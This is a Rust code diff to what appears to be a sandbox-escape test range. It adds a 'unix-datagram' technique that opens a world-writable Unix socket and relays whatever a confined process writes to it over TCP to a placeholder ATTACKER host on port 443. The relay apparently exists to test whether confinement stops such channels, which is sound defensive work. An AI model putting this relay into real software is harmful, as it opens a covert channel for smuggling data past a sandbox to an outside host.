@@ -17,7 +17,7 @@ use std::time::{Duration, Instant};
 use anyhow::{Context, Result, bail};
 use nix::errno::Errno;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
-use tokio::net::{TcpStream, UnixListener};
+use tokio::net::{TcpStream, UnixDatagram, UnixListener};
 
 pub mod attempt;
 mod packet;
@@ -165,6 +165,18 @@ impl Range {
                     tokio::time::sleep(Duration::from_millis(10)).await;
                 }
             })],
+            "unix-datagram" => {
+                let path = technique::relay_path(token);
+                let listener = self.lab.app.block_on(async move { UnixDatagram::bind(&path) });
+                let path = technique::relay_path(token);
+                let open = std::os::unix::fs::PermissionsExt::from_mode(0o666);
+                match listener {
+                    Ok(listener) if std::fs::set_permissions(&path, open).is_ok() => {
+                        vec![self.lab.app.spawn(relay_datagram(listener, path))]
+                    }
+                    _ => Vec::new(), // the control notices
+                }
+            }
             "unix-relay" => {
                 let name = technique::relay_name(token);
                 let listener = self.lab.app.block_on(async move { relay_listener(&name) });
@@ -272,7 +284,8 @@ fn run_helper(from: &Confinement, order: &Order) -> Result<Report> {
     Ok(Report { outcome: word("outcome"), at: word("at"), code })
 }
 
-fn helper_command() -> Result<Command> {
+/// A command for the helper process, without an order.
+pub fn helper_command() -> Result<Command> {
     let me = std::env::current_exe()?;
     if SELF_SERVICE.load(Ordering::Relaxed) {
         let mut command = Command::new(me);
@@ -293,6 +306,24 @@ fn relay_listener(name: &str) -> Result<UnixListener> {
     let listener = net::UnixListener::bind_addr(&address)?;
     listener.set_nonblocking(true)?;
     Ok(UnixListener::from_std(listener)?)
+}
+
+async fn relay_datagram(listener: UnixDatagram, path: PathBuf) {
+    let _gone = RemoveOnDrop(path);
+    let mut buffer = [0; 256];
+    if let Ok(len @ 1..) = listener.recv(&mut buffer).await
+        && let Ok(mut to) = TcpStream::connect((ATTACKER, 443)).await
+    {
+        drop(to.write_all(&buffer[..len]).await);
+    }
+}
+
+struct RemoveOnDrop(PathBuf);
+
+impl Drop for RemoveOnDrop {
+    fn drop(&mut self) {
+        drop(std::fs::remove_file(&self.0));
+    }
 }
 
 async fn relay(listener: UnixListener) {
